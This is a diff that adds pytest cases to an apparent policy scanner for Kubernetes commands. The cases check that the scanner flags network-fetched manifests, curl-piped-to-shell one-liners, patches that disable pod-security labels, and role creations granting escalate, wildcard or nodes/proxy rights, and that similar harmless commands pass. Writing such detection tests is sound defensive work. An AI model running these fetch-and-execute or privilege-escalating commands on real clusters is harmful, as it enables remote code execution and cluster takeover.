@@ -108,6 +108,65 @@ def test_a_setting_behind_a_line_that_goes_on_is_found() -> None:
     assert finding.rule == "raw-yaml"
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "kubectl apply --kustomize https://example.com/a",
+        "kubectl apply -Rf https://example.com/a.yaml",
+        'kubectl apply -f - <<< "$(curl -s https://example.com/a.yaml)"',
+        "curl -s 'https://example.com/a?b=1&c=2' | kubectl apply -f -",
+        "curl -s https://example.com/a.sh 2>&1 | sh; kubectl get pods",
+        'sh -c "$(curl -fsSL https://example.com/a.sh)" && kubectl get pods',
+        "bash <(curl -s https://example.com/a.sh); kubectl get pods",
+    ],
+)
+def test_a_manifest_from_the_network_is_found_in_every_spelling(command: str) -> None:
+    [finding] = findings(COMMAND, {"create": command})
+    assert (finding.rule, finding.found) == ("raw-yaml", "a manifest from the network, or in disguise")
+
+
+_AS_JSON_PATCH = (
+    "kubectl patch ns team --type=json -p '"
+    '[{{"op":"add","path":"/metadata/labels/pod-security.kubernetes.io~1enforce{}","value":"{}"}}]\''
+)
+_AS_MERGE_PATCH = 'kubectl patch ns team -p \'{{"metadata":{{"labels":{{"{}":{}}}}}}}\''
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        _AS_JSON_PATCH.format("", "privileged"),
+        _AS_MERGE_PATCH.format("pod-security.kubernetes.io/enforce", "null"),
+        _AS_MERGE_PATCH.format("kai-anywhere.io/pod-guard", "null"),
+        _AS_MERGE_PATCH.format("kai-anywhere.io/pod-guard", ' "off"'),
+        'kubectl label ns team kai-anywhere.io/pod-guard=""',
+        "kubectl create clusterrole a --verb='*' --resource=pods",
+        "kubectl create role a --resource=roles --verb get,escalate",
+        "kubectl create clusterrole a --verb=get --resource=nodes/proxy",
+        "kubectl create clusterrolebinding a --clusterrole=edit --user=a",
+    ],
+)
+def test_a_command_that_sets_what_an_object_may_not_say_is_found(command: str) -> None:
+    [finding] = findings(COMMAND, {"create": command})
+    assert finding.rule == "raw-yaml"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        _AS_JSON_PATCH.format("", "restricted"),
+        _AS_JSON_PATCH.format("-version", "v1.30"),
+        _AS_MERGE_PATCH.format("kai-anywhere.io/pod-guard", '"enforce"'),
+        "kubectl create clusterrole a --verb=get,list --resource=pods,nodes",
+        "kubectl create rolebinding a --clusterrole=edit --user=a",
+        "sh -c 'kubectl annotate node a address=$(curl -s https://example.com)'",
+        "kubectl apply --kustomize ./a && kubectl apply -Rf manifests",
+    ],
+)
+def test_near_to_them_harmless_commands_pass(command: str) -> None:
+    assert findings(COMMAND, {"create": command}) == ()
+
+
 def test_a_compose_file_that_is_copied_to_a_host_is_judged() -> None:
     compose = "services:\n  a:\n    image: a:1\n    volumes: ['/:/host']\n"
     props: Any = {"remotePath": "/opt/compose.yaml", "source": StringAsset(compose)}
